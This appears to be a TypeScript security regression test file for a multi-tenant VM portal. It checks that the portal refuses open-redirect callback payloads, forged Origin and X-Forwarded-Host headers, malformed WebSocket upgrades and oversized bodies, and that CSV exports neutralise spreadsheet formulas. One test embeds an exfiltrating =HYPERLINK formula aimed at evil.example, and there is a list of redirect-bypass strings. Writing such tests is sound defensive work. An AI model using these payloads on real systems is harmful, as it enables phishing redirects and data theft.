/**
 * Issue 10 ("Trust first"): one test per defect class the attack suite found, each against the
 * real portal server (production build) and the real local cluster. Each refused request must
 * leave no object behind; a denial by a signed-in user is audited, an anonymous one never lands
 * in a tenant's log.
 */
import net from "node:net";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "../../lib/server/db/db";
import { anonymous, getObject, paths, portalUrl, signIn, uniqueName, type PortalClient } from "./helpers";

const ns = "tenant-acme";
let alice: PortalClient;

beforeAll(async () => {
  alice = await signIn("alice", "alice-password");
});

afterAll(async () => {
  await getDb().$disconnect();
});

/** Sends raw bytes to the portal and returns what it answered before closing (or after `ms`). */
function raw(request: string, ms = 5000): Promise<{ text: string; closed: boolean }> {
  const { hostname, port } = new URL(portalUrl);
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), hostname, () => socket.write(request));
    let text = "";
    const timer = setTimeout(() => {
      socket.destroy();
      resolve({ text, closed: false });
    }, ms);
    socket.on("data", (d) => (text += d.toString()));
    socket.on("close", () => {
      clearTimeout(timer);
      resolve({ text, closed: true });
    });
    socket.on("error", () => {});
  });
}

const upgrade = (path: string, cookie = "") =>
  `GET ${path} HTTP/1.1\r\nHost: ${new URL(portalUrl).host}\r\nOrigin: ${portalUrl}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
  `Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${cookie ? `Cookie: ${cookie}\r\n` : ""}\r\n`;

describe("1. open redirect: callbackUrl is judged after normalization", () => {
  it.each(["%2F.%2F%2Fevil.example", "%2F..%2F%2Fevil.example", "%2F%252e%2F%2Fevil.example", "%2F.%2F%5Cevil.example",
    encodeURIComponent(`${portalUrl}//evil.example`)])("a signed-in user at /signin?callbackUrl=%s stays on the portal", async (cb) => {
    const res = await fetch(`${portalUrl}/signin?callbackUrl=${cb}`, { headers: { cookie: alice.cookie }, redirect: "manual" });
    expect(res.status).toBe(307);
    const location = res.headers.get("location") ?? "";
    expect(new URL(location, portalUrl).origin).toBe(portalUrl);
    expect(location).not.toMatch(/^\/\/|^\/\\/);
  });
});

describe("2. origin: a forged X-Forwarded-Host does not make a foreign Origin same-site", () => {
  it("refuses the mutation with 403, creates nothing and audits the denial", async () => {
    const name = uniqueName("xfh");
    const res = await alice.call("POST", "/api/tenants/acme/disks", { name, size: "1Gi" }, { origin: "http://evil.example", "x-forwarded-host": "evil.example" });
    expect(res.status).toBe(403);
    expect(await getObject(paths.vmDisk(ns, name))).toBeNull();
    const rows = await getDb().auditLog.findMany({ where: { action: "disk.create", targetName: name } });
    expect(rows.map((r) => [r.actor, r.result])).toEqual([["alice", "denied"]]);
  });

  it("refuses the console upgrade from that origin with 403", async () => {
    const forged = upgrade("/api/tenants/acme/vms/web/console", alice.cookie)
      .replace(`Origin: ${portalUrl}`, "Origin: http://evil.example").replace("\r\n\r\n", "\r\nX-Forwarded-Host: evil.example\r\n\r\n");
    const { text } = await raw(forged);
    expect(text).toMatch(/^HTTP\/1\.1 403/);
  });
});

describe("4. malformed escapes and upgrades nobody serves", () => {
  it("answers 400 JSON to a malformed escape without a session", async () => {
    const res = await fetch(`${portalUrl}/api/tenants/acme%E0/vms`);
    expect(res.status).toBe(400);
    expect((await res.json()).error.code).toBe("invalid");
  });

  it("answers 400 to a malformed escape in a console upgrade and stays up", async () => {
    const { text, closed } = await raw(upgrade("/api/tenants/acme%E0/vms/web/console"));
    expect(text).toMatch(/^HTTP\/1\.1 400/);
    expect(closed).toBe(true);
    expect((await fetch(`${portalUrl}/api/health`)).status).toBeLessThan(500);
  });

  it.each(["/api/tenants/acme/vms/web/console/", "/API/TENANTS/acme/vms/web/CONSOLE", "/api/tenants/acme/vms", "/_next/hmr"])(
    "answers 404 to an upgrade of %s and closes the socket", async (p) => {
      const { text, closed } = await raw(upgrade(p));
      expect(text).toMatch(/^HTTP\/1\.1 404/);
      expect(closed).toBe(true);
    });
});

describe("5. nothing is read before the session is known", () => {
  it("answers 401 to an anonymous 20 MB body and writes no row into acme's log", async () => {
    const since = new Date();
    const body = JSON.stringify({ name: "x".repeat(20 << 20) });
    const res = await fetch(`${portalUrl}/api/tenants/acme/vms`, { method: "POST", headers: { origin: portalUrl, "content-type": "application/json" }, body });
    expect(res.status).toBe(401);
    const rows = await getDb().auditLog.findMany({ where: { createdAt: { gte: since }, actor: "anonymous" } });
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) {
      expect(r.tenantName).toBe("");
      expect(r.tenantId).toBeNull();
      expect(r.requestSummary.length).toBeLessThan(100);
    }
  });

  it("answers 413 to a signed-in body above 1 MiB, naming the body", async () => {
    const name = uniqueName("big");
    const res = await alice.call("POST", "/api/tenants/acme/disks", { name, size: "1Gi", pad: "x".repeat(2 << 20) });
    expect(res.status).toBe(413);
    expect(res.body.error.field).toBe("body");
    expect(await getObject(paths.vmDisk(ns, name))).toBeNull();
  });

  it("keeps anonymous attempts out of every tenant's log", async () => {
    const before = await getDb().auditLog.count({ where: { tenantName: "acme", actor: "anonymous" } });
    await anonymous.call("DELETE", "/api/tenants/acme/vms/web");
    await anonymous.call("POST", "/api/tenants/acme/vms/web/start");
    expect(await getDb().auditLog.count({ where: { tenantName: "acme", actor: "anonymous" } })).toBe(before);
  });
});

describe("11. probes tell nothing internal", () => {
  it("answers /livez and /readyz without a session, with only ok/unavailable per check", async () => {
    expect(await (await fetch(`${portalUrl}/livez`)).json()).toEqual({ status: "ok" });
    const ready = await fetch(`${portalUrl}/readyz`);
    expect(ready.status).toBe(200);
    expect(await ready.json()).toEqual({ database: "ok", cluster: "ok" });
    expect(await (await fetch(`${portalUrl}/api/health`)).json()).toEqual({ database: "ok", cluster: "ok" });
  });
});

describe("11. security headers", () => {
  it.each(["/signin", "/api/tenants"])("%s cannot be framed and is not sniffed", async (p) => {
    const res = await fetch(`${portalUrl}${p}`, { redirect: "manual" });
    expect(res.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
    expect(res.headers.get("x-frame-options")).toBe("DENY");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("referrer-policy")).toBe("same-origin");
  });
});

describe("10. CSV export: no cell a spreadsheet would run", () => {
  it("exports a formula-looking name as text ('=…), the JSON export unchanged", async () => {
    const admin = await signIn("admin", "admin-password");
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")-${uniqueName("f")}`;
    // an invalid VM name: refused with 422, and the attempt (with its name) is audited
    expect((await alice.call("POST", "/api/tenants/acme/vms", { name: formula })).status).toBe(422);
    const res = await fetch(`${portalUrl}/api/audit/export?format=csv&tenant=acme&actor=alice&action=vm.create`, { headers: { cookie: admin.cookie } });
    expect(res.status).toBe(200);
    const records = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells).toContain(`'${formula}`);
    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    const json = (await (await fetch(`${portalUrl}/api/audit/export?format=json&tenant=acme&actor=alice&action=vm.create`, { headers: { cookie: admin.cookie } })).json()) as { targetName: string }[];
    expect(json.map((r) => r.targetName)).toContain(formula);
  });
});

describe("12. duplicate external ports", () => {
  it("refuses externalPorts [22, 22] with 422 on the field and creates nothing", async () => {
    const name = uniqueName("dup");
    const res = await alice.call("POST", "/api/tenants/acme/vms", {
      name, instanceType: "u1.medium", instanceProfile: "ubuntu",
      rootDisk: { source: { type: "image", name: "ubuntu" } }, external: true, externalPorts: [22, 22],
    });
    expect(res.status, JSON.stringify(res.body)).toBe(422);
    expect(res.body.error.field).toMatch(/^externalPorts/);
    expect(await getObject(paths.vmInstance(ns, name))).toBeNull();
    expect(await getObject(paths.vmDisk(ns, `${name}-os`))).toBeNull();
  });
});
